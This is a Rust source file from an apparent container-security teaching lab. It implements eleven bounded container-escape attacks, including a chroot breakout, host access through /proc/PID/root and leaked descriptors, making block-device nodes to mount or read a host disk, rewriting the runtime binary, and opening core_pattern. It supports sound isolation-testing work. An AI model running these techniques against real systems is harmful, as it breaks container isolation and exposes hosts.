//! The attacks keep their names through the course, so that a reader watches each cell of one matrix flip.
//!
//! Each is bounded and touches only what it was pointed at: a sentinel file, process or block device that the
//! lab placed. What an attack makes inside the container it removes again.

use std::fmt::{self, Display};
use std::fs::{self, File, OpenOptions};
use std::io::Read;
use std::path::{Path, PathBuf};

use clap::Subcommand;
use nix::errno::Errno;
use nix::mount::{MsFlags, mount, umount};
use nix::sys::signal::{Signal, kill};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::unistd::{Pid, chdir, chroot, fchdir};
use serde::{Deserialize, Serialize};

use crate::load;

mod runtime;
pub use runtime::HOLDING;

/// How a sentinel file begins; what does not begin so was not the lab's, and does not count as reached.
pub const SENTINEL: &str = "docker-dive sentinel";

/// The attacks, but for those that the lab makes from outside.
#[derive(Debug, Clone, Subcommand)]
#[command(rename_all = "UPPER")]
pub enum Attack {
    /// Walk out of a chroot with `..`: a second chroot leaves the working directory outside of it
    A1 {
        /// A file on the host whose text proves the escape; without it, another root directory does
        #[arg(long = "sentinel")]
        sentinel: Option<PathBuf>,
    },
    /// Reach the host's files through /proc/PID/root of a host process
    A2 {
        /// The host process
        pid: i32,
        /// A file on the host whose text proves the escape
        #[arg(long = "sentinel")]
        sentinel: PathBuf,
    },
    /// Signal a host process
    A3 {
        /// The host process; it receives SIGTERM
        pid: i32,
    },
    /// Fork more processes than a container should hold
    A4 {
        /// How many; the attack stops there
        #[arg(default_value_t = 128)]
        count: u32,
    },
    /// Use more memory than a container should hold
    A5 {
        /// How many MiB; the attack stops there
        #[arg(default_value_t = 96)]
        mib: usize,
    },
    /// Make a device node of a host's disk and mount the file system on it
    A6 {
        /// The block device as `MAJOR:MINOR`; the file system on it is ext4 and holds a file `sentinel`
        device: String,
    },
    /// Write to the runtime's own binary, which /proc/self/exe leads to for who was executed by that path
    A7 {
        /// A descriptor of it that was opened before; the attack goes on with it as another program
        #[arg(long = "held")]
        held: Option<i32>,
    },
    /// See whether a mount of the configuration is here: a link in the root may have led it out
    A8 {
        /// Where the configuration wants it
        target: PathBuf,
    },
    /// Make a device node of a host's disk and read the disk itself, with no file system mounted
    A9 {
        /// The block device as `MAJOR:MINOR`; somewhere on it is a sentinel
        device: String,
    },
    /// Reach the host's files through a directory that whoever started the container left open
    A10,
    /// Open /proc/sys/kernel/core_pattern for writing: it names a program that the host's kernel executes as root.
    /// Nothing is written
    A11,
}

const CORE_PATTERN: &str = "/proc/sys/kernel/core_pattern";

/// What became of an attack.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Verdict {
    /// It reached what it should not.
    Escaped,
    /// It was refused; the errno by name, or what ended it.
    Blocked(String),
}

impl Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Escaped => f.write_str("ESCAPED"),
            Self::Blocked(by) => write!(f, "BLOCKED({by})"),
        }
    }
}

impl Attack {
    /// Attacks, once.
    pub fn run(&self) -> Verdict {
        let outcome = match self {
            Self::A1 { sentinel } => walk_out(sentinel.as_deref()),
            Self::A2 { pid, sentinel } => read_sentinel(&through_root_of(*pid, sentinel)),
            Self::A3 { pid } => kill(Pid::from_raw(*pid), Signal::SIGTERM),
            Self::A4 { count } => return fork_bomb(*count),
            Self::A5 { mib } => return memory_hog(*mib),
            Self::A6 { device } => mount_device(device),
            Self::A7 { held } => runtime::rewrite(*held),
            Self::A8 { target } => return look_for_mount(target),
            Self::A9 { device } => read_device(device),
            Self::A10 => through_descriptors(),
            Self::A11 => OpenOptions::new().write(true).open(CORE_PATTERN).map(drop).map_err(errno),
        };
        match outcome {
            Ok(()) => Verdict::Escaped,
            Err(errno) => Verdict::Blocked(format!("{errno:?}")),
        }
    }
}

// ANCHOR: walk_out
/// chroot(2) moves the root and not the working directory. With the working directory outside of the new
/// root, `..` never meets the root that would stop it, and climbs to the top of the mount namespace.
fn walk_out(sentinel: Option<&Path>) -> nix::Result<()> {
    let before = root_inode()?;
    let outside = File::open("/").map_err(errno)?;
    chroot(any_directory()?.as_path())?;
    fchdir(&outside)?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    match sentinel {
        Some(file) => read_sentinel(file),
        None if root_inode()? == before => Err(Errno::ENOENT),
        None => Ok(()),
    }
}
// ANCHOR_END: walk_out

/// Any directory serves as the second root; one that is there already leaves nothing behind.
fn any_directory() -> nix::Result<PathBuf> {
    let entries = fs::read_dir("/").map_err(errno)?;
    let mut dirs = entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_dir()));
    dirs.next().map(|entry| entry.path()).ok_or(Errno::ENOENT)
}

fn root_inode() -> nix::Result<(u64, u64)> {
    let root = nix::sys::stat::stat("/")?;
    Ok((root.st_dev, root.st_ino))
}

fn through_root_of(pid: i32, file: &Path) -> PathBuf {
    Path::new(&format!("/proc/{pid}/root")).join(file.strip_prefix("/").unwrap_or(file))
}

fn read_sentinel(path: &Path) -> nix::Result<()> {
    let mut text = String::new();
    File::open(path).map_err(errno)?.take(4096).read_to_string(&mut text).map_err(errno)?;
    if text.starts_with(SENTINEL) { Ok(()) } else { Err(Errno::ENOENT) }
}

fn fork_bomb(count: u32) -> Verdict {
    let load = load::processes(count);
    match load.stopped_by {
        None => Verdict::Escaped,
        Some(by) => Verdict::Blocked(by),
    }
}

/// The hog is a child, so that the attacker lives to tell what became of it.
fn memory_hog(mib: usize) -> Verdict {
    use std::os::unix::process::ExitStatusExt;
    let hog = load::guest(["load", "memory", &mib.to_string()]).stdout(std::process::Stdio::piped()).status();
    match hog {
        Ok(status) if status.success() => Verdict::Escaped,
        Ok(status) => Verdict::Blocked(match status.signal().map(Signal::try_from) {
            Some(Ok(signal)) => signal.as_str().to_owned(),
            _ => status.to_string(),
        }),
        Err(error) => Verdict::Blocked(format!("{:?}", errno(error))),
    }
}

fn mount_device(device: &str) -> nix::Result<()> {
    let target = Path::new("/attack-a6-mount");
    with_node(device, "/attack-a6-node", |node| {
        let outcome = fs::create_dir(target).map_err(errno).and_then(|()| read_from_device(node, target));
        let _ = fs::remove_dir(target);
        outcome
    })
}

/// Makes the node, and removes it again whatever came of it.
fn with_node(device: &str, node: &str, attack: impl FnOnce(&Path) -> nix::Result<()>) -> nix::Result<()> {
    let (major, minor) = device.split_once(':').ok_or(Errno::EINVAL)?;
    let number = |text: &str| text.parse().map_err(|_| Errno::EINVAL);
    let node = Path::new(node);
    mknod(node, SFlag::S_IFBLK, Mode::S_IRUSR, makedev(number(major)?, number(minor)?))?;
    let outcome = attack(node);
    let _ = fs::remove_file(node);
    outcome
}

fn read_from_device(node: &Path, target: &Path) -> nix::Result<()> {
    let flags = MsFlags::MS_RDONLY | MsFlags::MS_NOSUID | MsFlags::MS_NOEXEC;
    mount(Some(node), target, Some("ext4"), flags, Some("noload"))?;
    let outcome = read_sentinel(&target.join("sentinel"));
    umount(target)?;
    outcome
}

/// A mount that is the container's is among those that the container sees.
fn look_for_mount(target: &Path) -> Verdict {
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let mut targets = mounts.lines().filter_map(|line| line.split(' ').nth(4)).map(Path::new);
    if targets.any(|mounted| mounted == target) {
        Verdict::Blocked("mounted inside".into())
    } else {
        Verdict::Escaped
    }
}

/// The lab's disk is small; no more is read of any other.
fn read_device(device: &str) -> nix::Result<()> {
    with_node(device, "/attack-a9-node", |node| {
        let mut bytes = Vec::new();
        File::open(node).map_err(errno)?.take(2 << 20).read_to_end(&mut bytes).map_err(errno)?;
        let found = bytes.windows(SENTINEL.len()).any(|window| window == SENTINEL.as_bytes());
        if found { Ok(()) } else { Err(Errno::ENOENT) }
    })
}

/// A descriptor is a way to a file that no root directory stops.
fn through_descriptors() -> nix::Result<()> {
    let numbers = 3..64;
    let reach = |number: i32| read_sentinel(&PathBuf::from(format!("/proc/self/fd/{number}/sentinel")));
    numbers.map(reach).find(Result::is_ok).unwrap_or(Err(Errno::EBADF))
}

/// By value, for it stands in many a `map_err`.
#[expect(clippy::needless_pass_by_value, reason = "map_err hands the error over")]
fn errno(error: std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(libc::EIO))
}
